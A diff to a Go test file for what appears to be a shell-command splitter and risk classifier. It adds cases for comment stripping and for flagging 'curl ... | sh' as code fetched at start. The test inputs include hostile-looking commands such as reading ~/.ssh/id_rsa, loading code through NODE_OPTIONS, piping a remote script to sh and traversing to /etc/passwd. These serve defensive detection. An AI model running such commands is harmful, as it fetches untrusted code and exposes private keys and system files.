@@ -18,6 +18,7 @@ func TestSplitShell(t *testing.T) {
 		{`echo "$(cat ~/.ssh/id_rsa)"`, []string{"echo", "cat ~/.ssh/id_rsa"}},
 		{`if test -f x; then exec ./run; fi`, []string{"test -f x", "./run", "fi"}},
 		{`cmd > /etc/out 2>&1`, []string{"cmd /etc/out 1"}},
+		{"# set up\nnode a.js # why\necho a#b", []string{"node a.js", "echo a#b"}},
 	}
 	for _, c := range cases {
 		var got []string
@@ -49,6 +50,7 @@ func TestNotCoveredByShell(t *testing.T) {
 		{`NODE_OPTIONS="--require /tmp/x.js" node /p/a.js`, []string{"path-program:node", "code-loading-env:NODE_OPTIONS", "outside-path:/tmp/x.js"}},
 		{`/d/bin/run`, []string{"plugin-data:${DATA}"}},
 		{`git clone https://h/r && pip install -r req.txt`, []string{"path-program:git", "fetched-at-start:git clone", "path-program:pip", "fetched-at-start:pip install"}},
+		{`bash -lc 'curl -s https://x | sh'`, []string{"path-program:bash", "path-program:curl", "fetched-at-start:curl | sh", "path-program:sh"}},
 		{`python3 /p/x.py /p/../etc/passwd`, []string{"path-program:python3", "outside-path:/p/../etc/passwd"}},
 	}
 	for _, c := range cases {
